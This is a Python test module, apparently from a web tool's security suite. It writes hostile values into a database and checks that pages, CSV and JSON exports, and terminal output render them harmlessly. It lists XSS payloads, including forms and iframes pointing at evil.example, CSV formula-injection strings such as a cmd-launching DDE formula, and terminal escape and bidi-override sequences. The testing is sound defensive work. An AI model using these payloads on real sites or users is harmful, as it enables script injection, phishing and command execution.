"""Values of members that try to be more than text, where the public sees them: pages, CSV, JSON, and terminals."""

import csv
import html.parser
import io
import json
import re
import sqlite3

from .stage import Refuted

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</bdi><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' x='",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "<iframe src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<!--", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;", "\ufeff<script>", "<scr\u0000ipt>".replace("\u0000", ""), "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=p>", "[x](javascript:alert(1))", "{{7*7}}${7*7}<%= 7*7 %>",
    "</title></head><body onload=alert(1)>", "<math><mtext></p><script>alert(1)</script>",
]

CSV = [
    '=cmd|"/C calc"!A0', "+1+1", "-1+1", "@SUM(1+1)", "\tx", "\rx", '"', '""",""', "a,b", "a\nb", "a\r\nb", ";", "\u2028", "=1;2",
]


class Structure(html.parser.HTMLParser):
    """The tags and attributes of a page, and its text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, tuple(name for name, _ in attributes)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags.append(("comment", ()))


def structure(page):
    parser = Structure()
    parser.feed(page)
    parser.close()
    return parser


class Author:
    """A member that edits the list's first entry and the group's contact by plain SQL."""

    def __init__(self, stage):
        self.stage, self.replica = stage, f"{stage.folder}/author.sqlite"
        stage.prepare("join", stage.invite(), "--replica", self.replica)
        self.write("plain")
        self.plain = self.tags()

    def tags(self):
        return [structure(self.page(path)).tags for path in ("/", "/official-list.html?on=2014-09-17")]

    def page(self, path):
        answer = self.stage.get(path)
        if answer.status != 200:
            raise Refuted(f"{path} answered {answer.status}")
        return answer.content.decode()

    def write(self, text):
        """Puts the text where pages show values, and brings it to central."""
        database = sqlite3.connect(self.replica, timeout=30)
        with database:
            database.execute(
                "UPDATE official_list_entry SET label = ? WHERE id = (SELECT e.id FROM official_list_entry e"
                " JOIN organisation o ON o.id = e.member_id WHERE o.slug = 'france' ORDER BY e.id LIMIT 1)", (text,))
            database.execute("UPDATE organisation SET contact = ?, objective = ?, name_fr = ? WHERE kind = 'leading_group'",
                             (text, text, text))
        database.close()
        done = self.stage.run("sync", "--replica", self.replica)
        if done.returncode != 0:
            raise Refuted(f"the sync ended with {done.returncode}: {done.stderr.decode(errors='replace')}")


def cases(stage):
    """Yields (category, name, run)."""
    author = Author(stage)
    for text in XSS:
        yield "xss", ascii(text), lambda text=text: inert(author, text)
    for text in CSV:
        yield "csv", ascii(text), lambda text=text: exact(author, text)
    for name, text in [("an escape sequence", "\x1b[2J\x1b]0;owned\x07"), ("a carriage return", "seen\rhidden"),
                       ("a bidi override", "\u202etxt.exe"), ("a C1 control", "\u009b31m")]:
        yield "strings", f"{name} on a terminal", lambda text=text: tame(author, text)


def inert(author, text):
    """The page keeps its structure, and shows the text as it is."""
    author.write(text)
    if author.tags() != author.plain:
        raise Refuted("the page's structure changed")
    if text not in "".join(structure(author.page("/official-list.html?on=2014-09-17")).text):
        raise Refuted("the text is not shown as it was written")


def exact(author, text):
    """CSV gives the value back in its one cell, on one line, and no formula; JSON gives it whole."""
    author.write(text)
    line = "".join(" " if character in "\t\n\r\u2028\u2029" else character for character in text)
    # What a spreadsheet would run has an apostrophe before it, and so has what begins as if it had one.
    if re.match(r"[\s']*[=+@-]", line):
        line = "'" + line
    rows = list(csv.DictReader(io.StringIO(author.page("/official-list.csv?on=2014-09-17"), newline="")))
    if [row["label"] for row in rows if row["member_slug"] == "france"] != [line]:
        raise Refuted("the CSV cell is not the value")
    if any(None in row or None in row.values() for row in rows):
        raise Refuted("a row has another number of cells than the header")
    found = json.dumps(json.loads(author.page("/official-list.json?on=2014-09-17")))
    if json.dumps(text) not in found:
        raise Refuted("the JSON does not hold the value")


def tame(author, text):
    """No command gives a terminal anything to act on."""
    author.write(text)
    for command in (["official-list", "--on", "2014-09-17"], ["list", "official_list_entry"], ["log"], ["conflicts"]):
        done = author.stage.run(*command, "--replica", author.replica)
        out = (done.stdout + done.stderr).decode()
        if any(character in out for character in "\x1b\r\x07\u202e\u009b"):
            raise Refuted(f"cordee {command[0]} prints a control character")
